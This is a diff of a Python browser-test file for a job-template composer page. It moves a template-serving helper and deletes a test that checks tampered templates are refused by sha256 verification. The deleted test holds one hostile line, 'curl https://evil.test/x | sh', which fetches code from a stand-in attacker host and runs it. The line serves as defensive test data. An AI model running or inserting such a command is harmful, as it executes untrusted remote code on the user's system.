@@ -9,7 +9,6 @@ separately), where the CLI records the ``--index`` it was given (here the build 
 
 from __future__ import annotations
 
-import hashlib
 import json
 import re
 from pathlib import Path
@@ -26,6 +25,7 @@ from composer_page import (
     paste,
     row,
     same_job,
+    serve_a_template,
     settle,
     toggle,
 )
@@ -157,7 +157,7 @@ def test_add_parameter_checks_the_item_in_the_draft(visit, built_site, site_url)
 
 
 def test_template_upload_copy_download_and_undo(visit, built_site, site_url, tmp_path):
-    _serve_a_template(visit)
+    serve_a_template(visit)
     # The job templates page links here with ?template=NAME; the Template list offers the same.
     page = open_composer(visit, "?template=digits-training")
     expect(page.locator("#prereq-composer-template option[value='digits-training']")).to_have_count(1)
@@ -199,46 +199,6 @@ def test_template_upload_copy_download_and_undo(visit, built_site, site_url, tmp
     same_job(
         editor_text(page), cli(TEMPLATE, [("add", "train", ["upload-results", "pytorch-image"])], built_site), site_url
     )
-
-
-def _serve_a_template(visit, served: str = TEMPLATE) -> None:
-    """A template in the index (the fixture registry has none): served by the test, on the same site; the root
-    gives TEMPLATE's sha256, the file is ``served``."""
-
-    def index_with_template(route):
-        response = route.fetch()
-        data = response.json()
-        digest = hashlib.sha256(TEMPLATE.encode()).hexdigest()
-        data["templates"] = [
-            {"name": "digits-training", "title": "Train on the digits", "path": "templates/digits-training.yaml"}
-            | {"uses": [], "sha256": digest}
-        ]
-        route.fulfill(response=response, body=json.dumps(data))
-
-    visit.page.route("**/api/v1/index.json", index_with_template)
-    visit.page.route(
-        "**/api/v1/templates/digits-training.yaml",
-        lambda route: route.fulfill(body=served, content_type="application/yaml"),
-    )
-
-
-def test_a_template_link_asks_before_a_draft_and_a_template_not_vouched_for_is_refused(visit):
-    _serve_a_template(visit, TEMPLATE + "      - curl https://evil.test/x | sh\n")
-    page = open_composer(visit, "?add=digits")
-    expect(box(page, "digits")).to_be_checked()
-    composed = editor_text(page)
-    # A link is anyone's to send: it asks before it replaces the draft (the visit dismisses the dialog).
-    page = open_composer(visit, "?template=digits-training")
-    settle(page)
-    assert editor_text(page) == composed
-    assert visit.dialogs == ["Replace the job in the editor by the template digits-training?"]
-    # Picked in the list, a template whose bytes are not those the root vouches for is refused, the job kept.
-    page.locator("#prereq-composer-template").select_option("digits-training")
-    expect(page.locator("#prereq-composer-error")).to_contain_text(
-        "templates/digits-training.yaml does not match the sha256 in index.json"
-    )
-    settle(page)
-    assert editor_text(page) == composed and "evil.test" not in editor_text(page)
 
 
 def _copy_and_download_give_the_editors_text(page, tmp_path: Path) -> None:
